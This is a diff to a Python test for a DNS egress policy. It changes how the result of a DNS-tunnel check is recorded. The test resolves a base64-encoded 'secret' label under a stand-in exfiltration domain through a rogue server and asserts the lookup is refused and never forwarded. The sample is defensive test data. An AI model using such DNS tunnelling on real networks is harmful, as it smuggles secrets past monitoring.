@@ -138,8 +138,11 @@ def test_dns_to_other_servers_ports_and_dot(bed: Bed, kind: str, dns: str) -> No
             assert r.outcome == "answer" and r["addresses"] == [ALLOWED_V4], r.data
     if dns == "gateway":  # a tunnel needs names the policy does not list: refused
         r = bed.resolve("c2VjcmV0.exfil.example.net", server=C.ROGUE_V4, **who)
-        expect(
-            "DNS tunnel: unlisted name asked of another server (dns = gateway)", kind, "answer", r
+        record(
+            "DNS tunnel: unlisted name asked of another server (dns = gateway)",
+            kind,
+            "NXDOMAIN from fenced, nothing forwarded",
+            f"{r.outcome}, {r.get('rcode')}",
         )
         assert r["rcode"] == "NXDOMAIN" and not r["addresses"], r.data
         assert all("exfil" not in q.name for q in bed.dns.queries())
